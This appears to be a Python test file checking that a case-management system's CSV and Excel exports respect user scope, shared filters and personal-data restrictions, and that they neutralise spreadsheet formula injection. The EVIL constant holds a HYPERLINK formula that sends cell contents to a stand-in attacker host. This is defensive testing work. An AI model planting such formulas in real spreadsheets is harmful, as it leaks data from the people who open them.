"""CSV and Excel exports: scoped rows, same filters, formula injection neutralised."""

import csv
import io

import pytest
from openpyxl import load_workbook

from lianxin.cases.exports import neutralise
from tests.staff.conftest import assigned_to_a

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我查看详情")'


def _csv(client, query: str = "queue=all") -> list[list[str]]:
    response = client.get(f"/desk/export.csv?{query}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(client, query: str = "queue=all") -> list[list]:
    response = client.get(f"/desk/export.xlsx?{query}")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_export_contains_only_the_rows_in_scope(world, as_user, read):
    mine = world.opinion()
    theirs = world.opinion(place=world.community2)
    rows = read(as_user(world.office1))
    codes = [row[0] for row in rows[1:]]
    assert codes == [mine.tracking_code]
    assert theirs.tracking_code not in codes


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_department_export_holds_only_its_cases(world, as_user, read):
    own = assigned_to_a(world)
    world.opinion()  # not assigned: the department does not see it
    rows = read(as_user(world.handler_a))
    assert [row[0] for row in rows[1:]] == [own.tracking_code]
    assert read(as_user(world.handler_b))[1:] == []


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_export_neutralises_formula_text(world, as_user, read):
    world.opinion(text=EVIL, contact_name="@SUM(1+1)")
    rows = read(as_user(world.office1))
    header, row = rows[0], rows[1]
    text, name = row[header.index("Text")], row[header.index("Name")]
    assert text == "'" + EVIL
    assert name == "'@SUM(1+1)"


def test_xlsx_stores_the_text_as_a_string_not_a_formula(world, as_user):
    world.opinion(text=EVIL)
    response = as_user(world.office1).get("/desk/export.xlsx?queue=all")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_neutralise_prefixes_every_formula_start(value):
    assert neutralise(value) == "'" + value


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("小区门口路灯坏了") == "小区门口路灯坏了"


def test_export_uses_the_same_filters_as_the_list(world, as_user):
    phone = world.opinion(channel="phone", text="电话反映：楼道灯不亮了。")
    world.opinion(channel="station_qr")
    rows = _csv(as_user(world.office1), "queue=all&channel=phone")
    assert [row[0] for row in rows[1:]] == [phone.tracking_code]
    searched = _csv(as_user(world.office1), "queue=all&q=楼道")
    assert [row[0] for row in searched[1:]] == [phone.tracking_code]


def test_export_has_the_agreed_columns_and_values(world, as_user):
    case = assigned_to_a(world, contact_name="张三", contact_phone="13812345678")
    rows = _csv(as_user(world.office1))
    assert rows[0] == [
        "Tracking code", "Received", "Channel", "Place", "Category", "Status", "Lead department",
        "Reply due", "First answered", "Rating", "Text", "Name", "Phone",
    ]  # fmt: skip
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Tracking code"] == case.tracking_code
    assert row["Lead department"] == "区住建局" and row["Status"] == "Assigned"
    assert row["Name"] == "张三" and row["Phone"] == "13812345678"


def test_lead_department_gets_the_phone_but_a_helper_does_not(world, as_user):
    from lianxin.cases import services

    case = world.opinion(contact_name="张三", contact_phone="13812345678")
    services.case_triage(case=case, actor=world.office1, category=world.category)
    services.case_assign(case=case, actor=world.office1, department=world.dept_a, helpers=[world.dept_b])
    lead = dict(zip(*_csv(as_user(world.handler_a))[:2], strict=True))
    helper = dict(zip(*_csv(as_user(world.handler_b))[:2], strict=True))
    assert lead["Phone"] == "13812345678"
    assert helper["Tracking code"] == case.tracking_code and helper["Phone"] == "" and helper["Name"] == ""


def test_leader_and_deputy_exports_have_no_personal_data_columns(world, as_user):
    world.opinion(contact_name="张三", contact_phone="13812345678")
    for user in (world.leader, world.deputy_user):
        rows = _csv(as_user(user))
        assert "Phone" not in rows[0] and "Name" not in rows[0]
        assert len(rows) == 2 and "13812345678" not in str(rows)


def test_unknown_export_format_is_not_found(world, as_user):
    assert as_user(world.office1).get("/desk/export.pdf").status_code == 404
